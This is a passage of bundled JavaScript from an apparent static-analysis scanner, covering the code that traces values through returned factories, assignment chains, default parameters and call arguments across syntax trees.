    if (callee?.type === "identifier" && callee.text === name2 && enclosing(returned, language.functions)?.id === outer.id) return { node: returned, called: called2 };
  }
  return void 0;
}
var LOCAL_HOLDERS = { variable_declarator: { name: "name", value: "value" }, assignment_expression: { name: "left", value: "right" }, augmented_assignment_expression: { name: "left", value: "right" }, assignment: { name: "left", value: "right" } };
var CALLS = /* @__PURE__ */ new Set(["call_expression", "call"]);
var MAX_SEARCHED_NAMES = 32;
var WORD_CHAR = /[\w$]/;
function returnedValues(source, root, known, language, from = 0, to = source.length, holds = known) {
  const out2 = [];
  for (const keyword of ["return", language.expressionBody]) {
    for (let i2 = source.indexOf(keyword, from); i2 >= 0 && i2 < to; i2 = source.indexOf(keyword, i2 + keyword.length)) {
      const at = valueStart(source, i2, keyword);
      if (at === void 0 || at !== UNREAD_START && !mayResolveAt(source, at, known, language.fallback, keyword === "=>", holds)) continue;
      const value = returnedAt(source, root, i2, language);
      if (value) out2.push(value);
    }
  }
  return out2;
}
function valueStart(source, i2, keyword) {
  if (keyword !== "=>" && (WORD_CHAR.test(source[i2 - 1] ?? " ") || WORD_CHAR.test(source[i2 + keyword.length] ?? " "))) return void 0;
  let at = keyword === "lambda" ? lambdaBody(source, i2 + keyword.length) : i2 + keyword.length;
  if (at === void 0) return void 0;
  while (source[at] === " " || source[at] === "	") at++;
  return at;
}
var LAMBDA_PARAMETERS = 200;
var UNREAD_START = -1;
function lambdaBody(source, from) {
  let depth = 0;
  for (let i2 = from, end = Math.min(source.length, from + LAMBDA_PARAMETERS); i2 < end; i2++) {
    const c = source[i2];
    if (c === "\n" && depth === 0) return void 0;
    if (UNREAD.has(c)) return UNREAD_START;
    if (OPENERS.has(c)) depth++;
    else if (CLOSERS.has(c)) depth--;
    else if (c === ":" && depth === 0) return i2 + 1;
  }
  return from + LAMBDA_PARAMETERS < source.length ? UNREAD_START : void 0;
}
function returnedAt(source, root, i2, language) {
  const keyword = source.startsWith("return", i2) ? "return" : language.expressionBody;
  const named2 = root.namedDescendantForIndex(i2, i2 + keyword.length);
  const holder = named2?.type === "return_statement" || named2?.type === "arrow_function" || named2?.type === "lambda" ? named2 : root.descendantForIndex(i2, i2 + keyword.length)?.parent;
  const value = holder?.type === "return_statement" ? holder.namedChildren.find((c) => c !== null && !isComment(c)) : (holder?.type === "arrow_function" || holder?.type === "lambda") && keyword !== "return" ? holder.childForFieldName("body") : void 0;
  return value && value.type !== "statement_block" && value.startIndex >= valueStart(source, i2, keyword) ? value : void 0;
}
function returnsByHead(source, language) {
  const out2 = /* @__PURE__ */ new Map();
  for (const keyword of ["return", language.expressionBody]) {
    for (let i2 = source.indexOf(keyword); i2 >= 0; i2 = source.indexOf(keyword, i2 + keyword.length)) {
      let at = valueStart(source, i2, keyword);
      if (at === void 0 || at === UNREAD_START) continue;
      while (source[at] === "(" || source[at] === " ") at++;
      let head = identifierAt(source, at);
      if (head === "new" || head === "await") {
        at += head.length;
        while (source[at] === " ") at++;
        head = identifierAt(source, at);
      }
      if (head === void 0) continue;
      const list = out2.get(head);
      if (list) list.push(i2);
      else out2.set(head, [i2]);
    }
  }
  return out2;
}
function mayResolveAt(source, at, known, fallback, arrow, holds) {
  const head = identifierAt(source, at);
  if (head !== void 0) {
    if (known(head)) return true;
    if (head === "new" || head === "await") {
      let next = at + head.length;
      while (source[next] === " ") next++;
      if (known(identifierAt(source, next))) return true;
    }
  } else if (source[at] === "(") return identifiersIn(source.slice(at, at + PAREN_WINDOW)).some(known) || !closesWithin(source, at, PAREN_WINDOW);
  else if (source[at] === "[" || source[at] === "{" && !arrow) return someIdentifierIn(source, at, at + PAREN_WINDOW, holds) || !closesWithin(source, at, PAREN_WINDOW);
  return arrow ? false : mayFallBack(source, at, source.length, known, fallback);
}
var OPENERS = /* @__PURE__ */ new Set(["(", "[", "{"]);
var CLOSERS = /* @__PURE__ */ new Set([")", "]", "}"]);
var UNREAD = /* @__PURE__ */ new Set(["'", '"', "`", "/", "#"]);
function closesWithin(source, at, window2) {
  let depth = 0;
  for (let i2 = at, end = Math.min(source.length, at + window2); i2 < end; i2++) {
    const c = source[i2];
    if (UNREAD.has(c)) return false;
    if (OPENERS.has(c)) depth++;
    else if (CLOSERS.has(c) && --depth === 0) return true;
  }
  return false;
}
function bindFactories({ source, root, bindings, known, resolve, binders, rebind }, language) {
  const scope = bindings.scopes.rootId;
  const done = /* @__PURE__ */ new Set();
  const unfollowed = [];
  let shared;
  const bindReturned = (value, named3) => {
    if (done.has(value.startIndex)) return;
    const path2 = resolve(value);
    if (!path2 || path2.module === NOTHING) return;
    done.add(value.startIndex);
    const maker = makerOf(value, path2.unfollowed === NESTED_NOTE ? 1 : (path2.returns ?? 0) + 1, source, root, language);
    if (!maker) return;
    const { owner, method, placed: placed2, calls } = maker;
    const { returns: _, ...returned } = maker.steps.reduce((step, node) => through(step, node), through(path2, value.parent ?? value));
    const held = { ...returned, ...maker.nested ? { unfollowed: NESTED_NOTE } : {} };
    const methodName = method?.instance ? method.slot.slice(method.slot.lastIndexOf(".") + 1) : void 0;
    if (methodName !== void 0 && language.sharedMethodNames && (shared ??= language.sharedMethodNames(source))(methodName)) {
      binders.push(value.startIndex);
      for (const one of path2.properties ? heldValues(path2) : [path2]) if (one.members.length > 0) unfollowed.push({ value, path: one, method: methodName });
    } else if (method && !bindings.slotPath(method.slot.split("."))) {
      binders.push(method.owner.startIndex, value.startIndex);
      const slotCalls = method.returns ? calls : calls - 1;
      const note = method.past ? { unfollowed: CLASS_NOTE } : method.walked ? { unfollowed: METHOD_WALK_NOTE } : {};
      const slot = { ...held, ...note, ...slotCalls > 0 ? { returns: slotCalls } : {} };
      bindings.bindSlot(method.slot, slot);
      if (method.offered) bindings.offer(method.offered, slot);
      named3.push(method.owner.text);
      if (methodName !== void 0) named3.push(methodName);
    }
    if (placed2 && !bindings.returnedBy(placed2.fn.startIndex)) {
      binders.push(placed2.fn.startIndex, value.startIndex);
      bindings.bindReturning(placed2.fn.startIndex, { ...held, returns: calls }, placed2.name);
      named3.push(placed2.name);
    }
    if (!owner || bindings.boundIn(scope, owner.text)) return;
    binders.push(owner.startIndex, value.startIndex);
    bindings.bind(scope, owner.text, { ...held, returns: calls, ...maker.walked ? { unfollowed: WALK_NOTE } : {} });
    named3.push(owner.text);
  };
  let named2 = [];
  let fresh;
  for (let depth = 0; depth < MAX_FACTORY_DEPTH; depth++) {
    fresh = bindings.startFresh();
    named2 = [];
    for (const value of returnedValues(source, root, known, language, 0, source.length, (name2) => bindings.mayResolve(name2))) bindReturned(value, named2);
    if (named2.length === 0) return unfollowed;
    rebind(fresh, named2.length <= MAX_SEARCHED_NAMES ? mentionedIn(source, named2) : void 0);
  }
  const byHead = returnsByHead(source, language);
  for (let seen = fresh; ; ) {
    const next = bindings.startFresh();
    const queue = [];
    for (const [head, keywords] of byHead) {
      if (!seen.named(head)) continue;
      for (const keyword of keywords) {
        const value = returnedAt(source, root, keyword, language);
        if (value) bindReturned(value, queue);
      }
    }
    for (let i2 = 0; i2 < queue.length; i2++) {
      for (const keyword of byHead.get(queue[i2]) ?? []) {
        const value = returnedAt(source, root, keyword, language);
        if (value) bindReturned(value, queue);
      }
    }
    if (queue.length === 0) return unfollowed;
    rebind(next, queue.length <= MAX_SEARCHED_NAMES ? mentionedIn(source, queue) : void 0);
    seen = next;
  }
}
function mentionedIn(source, names) {
  const at = [];
  for (const name2 of names) {
    for (let i2 = source.indexOf(name2); i2 >= 0; i2 = source.indexOf(name2, i2 + name2.length)) {
      if (!WORD_CHAR.test(source[i2 - 1] ?? " ") && !WORD_CHAR.test(source[i2 + name2.length] ?? " ")) at.push(i2);
    }
  }
  at.sort((a, b) => a - b);
  return (target, _value, end) => {
    let lo = 0;
    let hi = at.length;
    while (lo < hi) {
      const mid = lo + hi >> 1;
      if (at[mid] < target) lo = mid + 1;
      else hi = mid;
    }
    const first = at[lo];
    return first !== void 0 && first < end;
  };
}
function makesFactory(source, root, known, resolve, language, from, to) {
  return returnedValues(source, root, known, language, from, to).some((value) => {
    const path2 = resolve(value);
    return path2 !== void 0 && path2.module !== NOTHING && makerOf(value, (path2.returns ?? 0) + 1, source, root, language) !== void 0;
  });
}
function enclosing(node, stops, past) {
  let n = node.parent;
  for (let i2 = 0; n && i2 < MAX_WALK; i2++, n = n.parent) if (stops.has(n.type)) return n;
  if (!n || !past) return void 0;
  const top = topDefinition(node, stops);
  if (top) past.hit = true;
  return top;
}
function topDefinition(node, stops) {
  let top = node.tree.rootNode.firstNamedChildForIndex(node.startIndex);
  while (top && !stops.has(top.type) && TOP_HOLDERS.has(top.type)) top = Object.hasOwn(HELD_IN, top.type) ? top.childForFieldName(HELD_IN[top.type]) ?? null : top.namedChild(0);
  return top && stops.has(top.type) && top.startIndex <= node.startIndex && top.endIndex >= node.endIndex ? top : void 0;
}
var HELD_IN = { variable_declarator: "value", export_statement: "declaration", decorated_definition: "definition", assignment: "right" };
function methodPast(node, top, method) {
  const cls = top(node.tree.rootNode.firstNamedChildForIndex(node.startIndex) ?? node);
  const member = cls?.childForFieldName("body")?.firstNamedChildForIndex(node.startIndex);
  return member && member.startIndex <= node.startIndex && member.endIndex >= node.endIndex ? method(member) : void 0;
}
var TOP_HOLDERS = /* @__PURE__ */ new Set(["export_statement", "decorated_definition", "lexical_declaration", "variable_declaration", "variable_declarator", "expression_statement", "assignment"]);
function outerSlot(node, top, name2) {
  const outer = top(node.tree.rootNode.firstNamedChildForIndex(node.startIndex) ?? node);
  const owner = outer?.childForFieldName("name");
  const member = outer?.childForFieldName("body")?.firstNamedChildForIndex(node.startIndex);
  const inner = member && member.startIndex <= node.startIndex ? name2(member) : void 0;
  return owner && inner ? { owner, slot: `${owner.text}.${inner.text}` } : void 0;
}

// core/scan/javascript-chains.ts
var CHAINED = /(?:\s*\??\.\s*#?[\w$]+|\s*\[[^\]\n]{0,200}\])*\s*(?:\?\?|\|\||&&)?=(?![=>])/y;
var LONG_SUBSCRIPT = /(?:\s*\??\.\s*#?[\w$]+|\s*\[[^\]\n]{0,200}\])*\s*\[[^\]\n]{201}/y;
function lastAssignedValues(definitions, source) {
  let out2;
  let chain;
  definitions.forEach(([name2, value], i2) => {
    const head = identifierAt(source, value.startIndex);
    if (head === void 0) return;
    CHAINED.lastIndex = LONG_SUBSCRIPT.lastIndex = value.startIndex + head.length;
    if (!CHAINED.test(source) && !(LONG_SUBSCRIPT.test(source) && assigns(value))) return;
    if (!chain || chain.end !== value.endIndex || chain.value.startIndex < value.startIndex) {
      let node = value;
      for (let right; assigns(node) && (right = node.childForFieldName("right")); node = right) ;
      chain = { end: value.endIndex, value: node };
    }
    if (chain.value === value) return;
    out2 ??= [...definitions];
    out2[i2] = [name2, chain.value];
  });
  return out2 ?? definitions;
}
var LOGICAL_ASSIGNMENT = /* @__PURE__ */ new Set(["??=", "||=", "&&="]);
function assigns(node) {
  const type = node?.type;
  return type === "assignment_expression" || type === "augmented_assignment_expression" && LOGICAL_ASSIGNMENT.has(node.childForFieldName("operator")?.type ?? "");
}

// core/scan/parameters.ts
var passedThrough = (path2, call2, param) => through(through(path2, call2), param);
function objectValue(entries) {
  return { module: OBJECT, members: [], properties: Object.fromEntries([...entries].map(([key, [path2, entry]]) => [key, through(path2, entry)])) };
}
var bindable = (path2, crosses) => path2 !== void 0 && (path2.properties !== void 0 || crosses(path2));
var MAX_SAME_NAME = 16;
function visibleDefinitions(bindings, byName, name2, defs, scopeOf, call2) {
  if (!defs?.length) return [];
  let byScope = byName.get(name2);
  if (!byScope) {
    byName.set(name2, byScope = /* @__PURE__ */ new Map());
    for (const nameNode of defs) {
      const scope = scopeOf(nameNode);
      const group = byScope.get(scope);
      if (group) group.push(nameNode);
      else byScope.set(scope, [nameNode]);
    }
    for (const group of byScope.values()) group.sort((a, b) => a.startIndex - b.startIndex);
  }
  const out2 = [];
  for (const scope of bindings.scopes.chain(call2)) {
    const group = byScope.get(scope);
    if (!group) continue;
    let low = 0;
    for (let high = group.length; low < high; ) {
      const mid = low + high >> 1;
      if (group[mid].startIndex < call2) low = mid + 1;
      else high = mid;
    }
    const last = group.length - 1;
    out2.push(group[last]);
    for (let i2 = Math.min(low, last) - 1; i2 >= 0 && out2.length < MAX_SAME_NAME; i2--) out2.push(group[i2]);
    for (let i2 = last - 1; i2 >= low && out2.length < MAX_SAME_NAME; i2--) out2.push(group[i2]);
    if (out2.length >= MAX_SAME_NAME) break;
  }
  return out2.slice(0, MAX_SAME_NAME);
}
var ARGUMENT_WINDOW = 400;
var wordStart = (c) => c >= 97 && c <= 122 || c >= 65 && c <= 90 || c === 95 || c === 36 || c > 127;
function functionBody(source, at) {
  let i2 = at - 1;
  while (i2 >= 0 && (source.charCodeAt(i2) === 32 || source.charCodeAt(i2) === 10 || source.charCodeAt(i2) === 9 || source.charCodeAt(i2) === 13)) i2--;
  return source[i2] === ")" || source[i2] === ">";
}
function blockEnd(source, at, end) {
  let depth = 0;
  for (let i2 = at; i2 < end; i2++) {
    const c = source.charCodeAt(i2);
    if (c === 123) depth++;
    else if (c === 125 && --depth === 0) return i2;
  }
  return end;
}
function mayPass(source, open, known) {
  let depth = 0;
  const end = Math.min(source.length, open + ARGUMENT_WINDOW);
  for (let i2 = open; i2 < end; i2++) {
    const c = source.charCodeAt(i2);
    if (c === 123 && functionBody(source, i2)) i2 = blockEnd(source, i2, end);
    else if (c === 40 || c === 91 || c === 123) depth++;
    else if (c === 41 || c === 93 || c === 125) {
      if (--depth === 0) return false;
    } else if (wordStart(c)) {
      const word = identifierAt(source, i2);
      if (word === void 0) continue;
      if (known(word)) return true;
      i2 += word.length - 1;
    }
  }
  return false;
}
var NO_PARAMETERS = { functions: /* @__PURE__ */ new Set(), reached: /* @__PURE__ */ new Set() };
var CALL = /(?=[$\p{L}_])(?:(?<![.$\p{L}\p{N}_])|(?<=\b(?:self|cls|this|super(?:\(\s*\))?)\s*\.\s*))([$\p{L}_][$\p{L}\p{N}_]*)\s*\(/gu;
function calledWithValue(text, names, known) {
  for (const match of text.matchAll(CALL)) if (names.has(match[1]) && mayPass(text, match.index + match[0].length - 1, known)) return true;
  return false;
}
var ParameterBinder = class {
  constructor(bindings, binders, occurrences) {
    this.bindings = bindings;
    this.binders = binders;
    this.occurrences = occurrences;
  }
  bindings;
  binders;
  occurrences;
  /** Occurrences by scope and name: a file of thousands of functions with a parameter of one name reads each function's own. */
  byScope;
  /** Names of the file's functions a call passes a watched value to. */
  reached = /* @__PURE__ */ new Set();
  /**
   * Bind parameter `param` (an identifier; `name` its text) of a function whose body is `scopes` (the
   * function's, then its body block's) to `value`, which came through `site` (the call, or the default). A parameter assigned again in the function
   * (`client = other`, `for client in \u2026`) is not bound: which value a use sees depends on the order.
   */
  bind(param, name2, scopes, parameters, value, site) {
    const scope = scopes[0];
    if (this.bindings.boundIn(scope, name2)) return false;
    this.byScope ??= groupByScope(this.occurrences());
    const again = scopes.flatMap((s) => this.byScope.get(`${s}\0${name2}`) ?? []).filter((o) => o.at < parameters.start || o.at >= parameters.end);
    this.binders.push(param.startIndex, site.startIndex);
    if (again.length) {
      for (const o of again) this.binders.push(o.at);
      return false;
    }
    this.bindings.bind(scope, name2, value);
    return true;
  }
};
function groupByScope(list) {
  const out2 = /* @__PURE__ */ new Map();
  for (const o of list) {
    const key = `${o.scope}\0${o.name}`;
    const group = out2.get(key);
    if (group) group.push(o);
    else out2.set(key, [o]);
  }
  return out2;
}
function followParameters(bindings, round, reread, since) {
  let fresh = since;
  for (; ; ) {
    const live = bindings.startFresh();
    if (!round(fresh)) break;
    reread(live);
    fresh = live;
  }
  bindings.startFresh();
}
function callsSeeing(callees, ordered, fresh) {
  const spans = fresh?.spans();
  if (!spans) return callees;
  const sorted = ordered.sorted ??= [...callees].sort((a, b) => a[0].startIndex - b[0].startIndex);
  const out2 = [];
  for (const [start3, end] of spans) {
    let low = 0;
    for (let high = sorted.length; low < high; ) {
      const mid = low + high >> 1;
      if (sorted[mid][0].startIndex < start3) low = mid + 1;
      else high = mid;
    }
    for (let i2 = low; i2 < sorted.length && sorted[i2][0].startIndex < end; i2++) out2.push(sorted[i2]);
  }
  return out2;
}
var MENTION_WINDOW = 4e3;
function mentions(source, target, value, end, fresh) {
  if (!fresh.covers(target)) return false;
  const name2 = identifierAt(source, target);
  if (name2 !== void 0 && fresh.at(name2, target)) return true;
  const read = Math.min(end, value + MENTION_WINDOW);
  const seen = fresh.atOffset(value);
  for (let i2 = value; i2 < read; i2++) {
    if (!wordStart(source.charCodeAt(i2))) continue;
    const word = identifierAt(source, i2);
    if (word === void 0) continue;
    if (seen(word)) return true;
    i2 += word.length - 1;
  }
  return end > read;
}

// core/scan/javascript-parameters.ts
var PRIVATE_WRITE_NAME = String.raw`(?:[\w$]+\s*\.\s*)?(?:__privateAdd|__privateSet|__classPrivateFieldSet)`;
var PRIVATE_READ_NAME = String.raw`(?:[\w$]+\s*\.\s*)?(?:__privateGet|__classPrivateFieldGet)`;
var PRIVATE_WRITE_AT = new RegExp(`${PRIVATE_WRITE_NAME}\\s*\\(`, "y");
var PRIVATE_READ_AT = new RegExp(`${PRIVATE_READ_NAME}\\s*\\(`, "y");
var PRIVATE_READ = new RegExp(`^${PRIVATE_READ_NAME}$`);
var PRIVATE_HELPER = new RegExp(`^(?:${PRIVATE_WRITE_NAME}|${PRIVATE_READ_NAME})$`);
function privateHelperAt(pattern, source, offset) {
  pattern.lastIndex = offset;
  return pattern.test(source);
}
var JS_CALL = /(?:(this|super)\s*\.\s*)?(#?[\p{L}_$][\p{L}\p{N}_$]*)\s*\(/uy;
var JS_DEFAULT = /\s*(?:\?\s*)?(?::[^=,()]*)?=(?![=>])\s*/y;
var PATTERN_DEFAULT = /\}(?:\s*:\s*[\w$.]+)?\s*=\s*\{(?!\s*\})/g;
var MAX_BASES = 4;
var FUNCTION_START = /(?:async\b|function\b|class\b|\(|[$\p{L}_][$\p{L}\p{N}_]*\s*=>)/uy;
var FUNCTION_VALUES = /* @__PURE__ */ new Set(["arrow_function", "function_expression", "function", "generator_function"]);
var CALLABLE_VALUES = /* @__PURE__ */ new Set([...FUNCTION_VALUES, "class"]);
function javaScriptParameters({ source, bindings, captures, resolve, crosses, known, binders }) {
  const { callees, locals, definitions } = captures;
  const defs = /* @__PURE__ */ new Map();
  const add = (name2, node) => defs.set(name2, [...defs.get(name2) ?? [], node]);
  for (const [node, outer] of locals) if (outer) add(identifierAt(source, node.startIndex), node);
  for (const [nameNode, value] of definitions) {
    FUNCTION_START.lastIndex = value.startIndex;
    if (FUNCTION_START.test(source) && nameNode.type === "identifier" && CALLABLE_VALUES.has(value.type)) add(nameNode.text, nameNode);
  }
  const occurrences = () => [
    ...definitions.filter(([nameNode]) => nameNode.type === "identifier").map(([nameNode]) => ({ name: nameNode.text, at: nameNode.startIndex, scope: bindings.scopeOf(nameNode) })),
    ...locals.filter(([, outer]) => !outer).map(([node]) => ({ name: identifierAt(source, node.startIndex), at: node.startIndex, scope: bindings.scopeOf(node) }))
  ];
  const binder = new ParameterBinder(bindings, binders, occurrences);
  const mayResolve = (node) => source[node.startIndex] === "(" || known(identifierAt(source, node.startIndex)) || source.startsWith("new", node.startIndex) || source.startsWith("await", node.startIndex);
  const resolved = (node) => {
    const path2 = node && mayResolve(node) ? resolve(node) : void 0;
    return bindable(path2, crosses) ? path2 : void 0;
  };
  const scopesOf = (param, fn) => {
    const body2 = fn.childForFieldName("body");
    return [bindings.scopeOf(param), ...body2?.type === "statement_block" ? [body2.id] : []];
  };
  const range = (node) => ({ start: node.startIndex, end: node.endIndex });
  const defaults = (mentioned) => {
    let bound = false;
    for (const [node, outer] of locals) {
      const at = outer ? void 0 : knownDefaultAt(source, node, known);
      if (at === void 0 || mentioned && !mentioned(node.startIndex, at, at + identifierAt(source, at).length)) continue;
      const found = defaultOf(node);
      const path2 = found && resolved(found.value);
      if (!path2) continue;
      const name2 = identifierAt(source, node.startIndex);
      const value = through(path2, found.holder);
      if (!binder.bind(node, name2, scopesOf(node, found.list.parent), range(found.list), value, found.holder)) continue;
      bound = true;
      if (parameterProperty(found.holder)) bindSlotAt(bindings, `this.${name2}`, value, found.holder);
    }
    return !mentioned && patternDefaults() || bound;
  };
  const patternDefaults = () => {
    let bound = false;
    const root = (locals[0]?.[0] ?? callees[0]?.[0])?.tree.rootNode;
    for (const { index } of root ? source.matchAll(PATTERN_DEFAULT) : []) {
      const closed = root.descendantForIndex(index)?.parent;
      const typed = closed?.type === "object_type" && closed.parent?.type === "type_annotation" ? closed.parent.parent : null;
      const pattern = typed ? typed.childForFieldName("pattern") : closed;
      const holder = pattern?.type === "object_pattern" ? pattern.parent : null;
      const literal = holder?.type === "assignment_pattern" ? holder.childForFieldName("right") : holder?.type === "required_parameter" ? holder.childForFieldName("value") : null;
      const list = holder?.parent;
      if (literal?.type !== "object" || list?.type !== "formal_parameters" || !list.parent || !watchedLiteral(source, literal, known)) continue;
      const object = resolve(literal);
      for (const [key, local] of object ? destructured(pattern) : []) {
        const value = key === void 0 ? void 0 : extend(object, key);
        if (value?.module === NOTHING || !bindable(value, crosses)) continue;
        bound = binder.bind(local, local.text, scopesOf(local, list.parent), range(list), through(value, holder), holder) || bound;
      }
    }
    return bound;
  };
  let first = true;
  const ordered = {};
  const round = (fresh) => {
    let bound = first && defaults();
    first = false;
    const pending = [];
    for (const [callee, kind] of callsSeeing(callees, ordered, fresh)) {
      if (fresh && !fresh.covers(callee.startIndex)) continue;
      const match = passingCall(source, callee, fresh ? (word) => word !== void 0 && fresh.at(word, callee.startIndex) : known, (name3) => defs.has(name3));
      if (!match) continue;
      const { owner, name: name2 } = match;
      const call2 = callee.parent;
      if (call2?.type !== "call_expression" && call2?.type !== "new_expression") continue;
      const passed = passedArguments(call2, resolved);
      if (passed.length === 0) continue;
      binder.reached.add(name2);
      for (const fn of targetsOf(call2, kind, owner, name2)) pending.push([fn, passed, call2]);
    }
    for (const [fn, passed, call2] of pending) bound = bindParameters(fn, passed, call2) || bound;
    return bound;
  };
  const declarationOf = (nameNode) => nameNode.parent.type === "variable_declarator" || assigns(nameNode.parent) ? void 0 : nameNode.parent;
  const definitionScope = (nameNode) => {
    const declaration2 = declarationOf(nameNode);
    return declaration2 ? bindings.scopeOf(nameNode, declaration2) : bindings.scopeOf(nameNode);
  };
  const visible = /* @__PURE__ */ new Map();
  const targetsOf = (call2, kind, owner, name2) => {
    if (owner || name2 === "super") {
      const cls = enclosingClass(call2);
      const found = cls && methodIn(cls, name2 === "super" ? "constructor" : name2, owner === "super" || name2 === "super");
      return found ? [found] : [];
    }
    const out2 = [];
    for (const nameNode of visibleDefinitions(bindings, visible, name2, defs.get(name2), definitionScope, call2.startIndex)) {
      const parent = nameNode.parent;
      const declaration2 = declarationOf(nameNode);
      const cls = classOf(nameNode);
      if (cls) {
        const constructor = kind === "new" ? methodIn(cls, "constructor", false) : void 0;
        if (constructor) out2.push(constructor);
      } else if (!declaration2) {
        const value = parent.childForFieldName(parent.type === "variable_declarator" ? "value" : "right");
        if (value && FUNCTION_VALUES.has(value.type)) out2.push(value);
      } else if (declaration2.type === "function_declaration" && kind === "call") out2.push(declaration2);
    }
    return out2;
  };
  const methodsOf = /* @__PURE__ */ new Map();
  const methods = (cls) => {
    let byName = methodsOf.get(cls.id);
    if (byName) return byName;
    methodsOf.set(cls.id, byName = /* @__PURE__ */ new Map());
    for (const member of cls.childForFieldName("body")?.namedChildren ?? []) {
      const memberName = member?.type === "method_definition" ? member.childForFieldName("name")?.text : void 0;
      if (memberName !== void 0 && !byName.has(memberName)) byName.set(memberName, member);
    }
    return byName;
  };
  const methodIn = (cls, name2, skipSelf, depth = 0) => {
    if (depth > MAX_BASES) return void 0;
    const own = skipSelf ? void 0 : methods(cls).get(name2);
    if (own) return own;
    const base = baseName(cls);
    for (const nameNode of (base && defs.get(base) || []).slice(0, MAX_SAME_NAME)) {
      const baseClass = classOf(nameNode);
      const found = baseClass ? methodIn(baseClass, name2, false, depth + 1) : void 0;
      if (found) return found;
    }
    return void 0;
  };
  const parameterLists = /* @__PURE__ */ new Map();
  const parameterList = (fn) => {
    const cached = parameterLists.get(fn.id);
    if (cached) return cached;
    const single = fn.childForFieldName("parameter");
    const list = fn.childForFieldName("parameters");
    const out2 = { around: list ?? single ?? fn, byPosition: [] };
    parameterLists.set(fn.id, out2);
    for (const param of single ? [single] : list?.namedChildren ?? []) {
      if (!param || isComment(param)) continue;
      const pattern = param.type === "required_parameter" || param.type === "optional_parameter" ? param.childForFieldName("pattern") : param.type === "assignment_pattern" ? param.childForFieldName("left") : param;
      if (!pattern || pattern.type === "rest_pattern") break;
      out2.byPosition.push([param, pattern]);
    }
    return out2;
  };
  const bindParameters = (fn, passed, call2) => {
    const { around, byPosition } = parameterList(fn);
    let bound = false;
    for (const arg of passed) {
      const at = byPosition[arg.position];
      if (!at) continue;
      const [param, pattern] = at;
      const whole = arg.path ?? (arg.properties && objectValue(arg.properties));
      if (pattern.type === "identifier" && whole) {
        const value = passedThrough(whole, call2, param);
        if (binder.bind(pattern, pattern.text, scopesOf(pattern, fn), range(around), value, call2)) {
          bound = true;
          if (parameterProperty(param)) bindSlotAt(bindings, `this.${pattern.text}`, value, param);
        }
      } else if (pattern.type === "object_pattern" && arg.properties) {
        for (const [key, local] of destructured(pattern)) {
          const property = key === void 0 ? void 0 : arg.properties.get(key);
          if (property) bound = binder.bind(local, local.text, scopesOf(local, fn), range(around), passedThrough(through(property[0], property[1]), call2, local), call2) || bound;
        }
      }
    }
    return bound;
  };
  return { round, defaults, facts: { functions: new Set(defs.keys()), reached: binder.reached } };
}
function parameterProperty(param) {
  return (param.type === "required_parameter" || param.type === "optional_parameter") && (param.namedChildren.some((c) => c?.type === "accessibility_modifier" || c?.type === "override_modifier") || /^\s*readonly\b/.test(param.text));
}
var CLASS_BODY = /* @__PURE__ */ new Set(["class_body"]);
function bindSlotAt(bindings, key, path2, at) {
  bindings.bindSlot(key, path2);
  if (!key.startsWith("this.")) return;
  const owner = enclosing(at, CLASS_BODY)?.parent?.childForFieldName("name");
  if (owner) bindings.bindSlot(`${owner.text}${staticThis(at) ? "" : ".prototype"}${key.slice(4)}`, path2);
}
var THIS_OWNERS = /* @__PURE__ */ new Set(["class_static_block", "method_definition", "function_declaration", "function_expression", "function", "generator_function_declaration", "generator_function", "class_body", "program"]);
function staticThis(at) {
  const owner = enclosing(at, THIS_OWNERS);
  return owner?.type === "class_static_block" || owner?.type === "method_definition" && owner.parent?.type === "class_body" && owner.children.some((c) => c?.type === "static");
}
function destructured(pattern, computedKey, nested = false) {
  const out2 = [];
  for (const prop of pattern.namedChildren) {
    if (prop?.type === "shorthand_property_identifier_pattern") out2.push([prop.text, prop]);
    else if (prop?.type === "object_assignment_pattern") {
      const left = prop.childForFieldName("left");
      if (left?.type === "shorthand_property_identifier_pattern") out2.push([left.text, left]);
    } else if (prop?.type === "pair_pattern") {
      const key = prop.childForFieldName("key");
      const value = prop.childForFieldName("value");
      const local = value?.type === "assignment_pattern" ? value.childForFieldName("left") : value;
      const computed = key?.type === "computed_property_name";
      const name2 = computed ? computedKey?.(key) : key?.type === "string" ? stringValue(key) : key?.text;
      if ((name2 !== void 0 || computed) && (local?.type === "identifier" || nested && local?.type === "object_pattern")) out2.push([name2, local]);
    }
  }
  return out2;
}
function passedArguments(call2, resolved) {
  const list = call2.childForFieldName("arguments");
  if (list?.type !== "arguments") return [];
  const out2 = [];
  let position = 0;
  for (const arg of list.namedChildren) {
    const type = arg?.type;
    if (!arg || COMMENT_TYPES.has(type)) continue;
    if (type === "spread_element") break;
    const at = position++;
    if (type === "object") {
      const properties = /* @__PURE__ */ new Map();
      for (const prop of arg.namedChildren) {
        const key = prop?.type === "pair" ? prop.childForFieldName("key") : prop?.type === "shorthand_property_identifier" ? prop : null;
        const name2 = key?.type === "string" ? stringValue(key) : key?.text;
        const value = prop?.type === "pair" ? prop.childForFieldName("value") : prop;
        const path3 = value && name2 !== void 0 ? resolved(value) : void 0;
        if (path3) properties.set(name2, [path3, prop]);
      }
      if (properties.size) out2.push({ position: at, properties });
      continue;
    }
    const path2 = resolved(arg);
    if (path2) out2.push({ position: at, path: path2 });
  }
  return out2;
}
function classOf(nameNode) {
  const parent = nameNode.parent;
  if (parent?.type === "class_declaration") return parent;
  const value = parent?.type === "variable_declarator" ? parent.childForFieldName("value") : assigns(parent) ? parent.childForFieldName("right") : null;
  return value?.type === "class" ? value : void 0;
}
function enclosingClass(node) {
  return enclosing(node, CLASSES2, { hit: false }) ?? null;
}
var CLASSES2 = /* @__PURE__ */ new Set(["class_declaration", "class", "abstract_class_declaration"]);
function baseName(cls) {
  const heritage = cls.namedChildren.find((c) => c?.type === "class_heritage");
  const first = heritage?.namedChild(0);
  const value = first?.type === "extends_clause" ? first.childForFieldName("value") : first;
  return value?.type === "identifier" ? value.text : void 0;
}
function passingCall(source, callee, known, defined = () => true) {
  JS_CALL.lastIndex = callee.startIndex;
  const match = JS_CALL.exec(source);
  if (!match || !(match[1] || match[2] === "super" || defined(match[2])) || PRIVATE_HELPER.test(match[2]) || !mayPass(source, JS_CALL.lastIndex - 1, known)) return void 0;
  return { owner: match[1], name: match[2] };
}
function knownDefaultAt(source, node, known) {
  JS_DEFAULT.lastIndex = node.startIndex + identifierAt(source, node.startIndex).length;
  return JS_DEFAULT.test(source) && known(identifierAt(source, JS_DEFAULT.lastIndex)) ? JS_DEFAULT.lastIndex : void 0;
}
function defaultOf(node) {
  const destructured2 = node.type === "object_assignment_pattern" || node.type === "assignment_pattern";
  const holder = destructured2 ? node : node.parent;
